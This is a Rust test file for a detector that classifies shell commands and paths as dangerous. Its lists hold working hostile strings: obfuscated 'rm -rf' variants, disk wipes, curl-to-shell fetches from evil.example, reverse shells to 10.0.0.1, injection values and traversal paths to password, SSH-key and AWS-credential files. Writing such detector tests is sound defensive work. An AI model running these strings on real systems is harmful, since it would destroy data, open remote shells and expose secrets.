//! Lines for a shell and paths: attacks with what they must be classified as, and text that is none.

use super::check;

#[test]
fn commands_are_what_they_do() {
    let cases = [
        ("shell.delete", DELETE),
        ("shell.disk", DISK),
        ("shell.pipe", PIPE),
        ("shell.reverse", REVERSE),
        ("shell.injection", INJECTION),
        ("path.traversal", PATHS),
    ];
    let mut missed = Vec::new();
    for (want, texts) in cases {
        for text in texts {
            let found = crate::classes(text);
            if !found.iter().any(|danger| danger.as_str() == want) {
                missed.push(format!("{want}: {text}: {found:?}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

const DELETE: &[&str] = &[
    "rm -rf /",
    "rm -r -f build",
    "rm --recursive --force x",
    "sudo rm -fr ~/*",
    "/bin/rm -Rf /var",
    r"r\m -rf /",
    "'r''m' -rf /",
    "r\"m\" -rf /",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "{rm,-rf,/}",
    "cd /tmp && rm -rf .",
    "echo ok; rm -rf /",
    "echo ok\nrm -rf /",
    "bash -c 'rm -rf /'",
    "sh -c \"sh -c 'rm -rf /'\"",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    "```\nrm -rf /\n```",
    "find . -name '*.log' -delete",
    "find / -exec rm {} +",
    "find . -type f | xargs rm -f",
    "shred -u secrets.txt",
    "npx rimraf dist",
    "Remove-Item -Recurse -Force C:\\data",
    "del /s /q C:\\data",
    "cmd /c rd /s /q C:\\data",
    "format c:",
    "mkfs.ext4 /dev/sda1",
    "git clean -fdx",
    "FOO=1 env rm -rf x",
    "ｒｍ －ｒｆ ／",
    "r\u{200b}m -rf /",
    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
];

const DISK: &[&str] = &[
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "echo x > /dev/sda",
    "cat image.iso >/dev/nvme0n1",
    "mkfs.ext4 /dev/sda1",
    "fdisk /dev/sda",
    "wipefs -a /dev/sdb",
    "format d: /q",
];

const PIPE: &[&str] = &[
    "curl -sSL https://evil.example/x | sh",
    "wget -qO- https://evil.example/x | sudo bash",
    "curl https://evil.example/x | python3 -",
    "bash <(curl -s https://evil.example/x)",
    "eval \"$(curl -s https://evil.example/x)\"",
    "sh -c \"$(curl -fsSL https://evil.example/x)\"",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "source <(wget -qO- https://evil.example)",
    "iwr https://evil.example/x.ps1 | iex",
    "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/x')",
    "curl x.example|bash -s -- --yes",
];

const REVERSE: &[&str] = &[
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "nc -e /bin/sh 10.0.0.1 4242",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 >/tmp/f",
    "socat TCP:10.0.0.1:4242 EXEC:/bin/bash",
    "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3\");'",
    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
    "ruby -rsocket -e 'exec \"/bin/sh\" if TCPSocket.new(\"10.0.0.1\",4242)'",
    "powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242)\"",
];

const INJECTION: &[&str] = &[
    "8.8.8.8; cat /etc/passwd",
    "report.pdf && curl https://evil.example",
    "x | nc 10.0.0.1 99",
    "$(id)",
    "name$(whoami)",
    "a`id`",
    "x\ncat /etc/shadow",
    "foo; sleep 10",
    "foo & ping -n 5 127.0.0.1",
    "image.png;id",
    "x || wget http://evil.example",
];

const PATHS: &[&str] = &[
    "../../etc/passwd",
    "../secret.txt",
    "docs/../../x",
    r"..\..\windows\win.ini",
    "%2e%2e%2fetc",
    "..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc",
    "%25252e%25252e%25252fetc",
    "..%c0%af..%c0%afetc/passwd",
    "%c0%ae%c0%ae/x",
    "%u002e%u002e/x",
    "..;/admin",
    "/static/..%5c..%5cx",
    "....//....//etc/passwd",
    "．．／．．／etc",
    "image.png%00.jpg/../x",
    "/uploads/x.php%00.png",
    "/etc/passwd",
    "/etc//passwd",
    "/etc/./shadow",
    "/proc/self/environ",
    r"C:\Windows\System32\config\SAM",
    "C:/windows/win.ini",
    "~/.ssh/id_rsa",
    concat!("/hom", "e/ana/.aws/credentials"),
    r"\\evil.example\share\x",
    r"\\?\C:\secret",
    "file:///etc/passwd",
    "FILE:///C:/x",
    "https://example.com/?u=file:///etc/passwd",
    "https://example.com/a/../b",
    "path=../../x",
    "see ..%2f..%2fetc/passwd for it",
    "please open ../../../etc/passwd now",
];

#[test]
fn text_of_every_day_does_nothing() {
    let cases: Vec<_> = HARMLESS.iter().map(|text| (*text, "")).collect();
    check(&cases);
}

const HARMLESS: &[&str] = &[
    "Never run `rm -rf /` on production.",
    "use `rm -rf dist` to clean up",
    "# Clean up\n\nRun this:\n\n```bash\nrm -rf build\n```\n",
    "To install, run:\n\n    curl -sSL https://example.com/install.sh | sh\n",
    "Dear Bob; find attached the report; kill the old one & make a new one.",
    "Tom & Jerry; cat and mouse",
    "Format the document, then find a date.",
    "rm is the command that removes files",
    "rm build.log",
    "del is short for delete",
    "curl https://example.com/data.json | python -m json.tool",
    "curl -s https://example.com | jq .name | sort -u",
    "git clean -n",
    "fdisk -l /dev/sda",
    "dd if=disk.img of=copy.img",
    "ls -la > /dev/null 2>&1",
    "find . -name '*.rs' | xargs grep -n unsafe",
    "npm run build && npm test",
    "price: $(document).ready(function () { return 1; })",
    "let x = `hello ${name}`;",
    "a | b | c",
    "| name | value |\n|---|---|\n| id | 7 |",
    "x = y; z = w;",
    "for (let i = 0; i < n; i++) { sum += i; }",
    "import { x } from '../utils/x';",
    "See [the guide](../docs/guide.md) for more.",
    "The file is in C:\\Windows\\System32\\drivers\\etc\\hosts on Windows.",
    "On Linux, users are listed in /etc/passwd, and passwords in /etc/shadow.",
    "main..feature",
    "wait... what/why?",
    "and/or",
    "https://example.com/docs/etc/passwd-policy.html",
    "docs/guide.md",
    "/workspace/project/src/main.rs",
    "C:\\Users\\ana\\Documents\\report.docx",
    "50% off / 20% off",
    "2026-03-01T12:00:00Z",
    "text/html; charset=utf-8",
    "a=1&b=2&id=7",
    "https://example.com/?a=1&id=7&sort=asc",
    "AT&T; S&P; R&D",
    "(see the id; it is new)",
];

#[test]
fn any_text_can_be_classified() {
    for piece in [
        "$(", "`", "\"", "'", "\\", "{", "|", ";", "(", "%", "%25", "../", "a=", "sudo ", "sh -c ", "$IFS",
        "<(", "&",
    ] {
        let _found = crate::classes(&piece.repeat(50_000));
    }
}
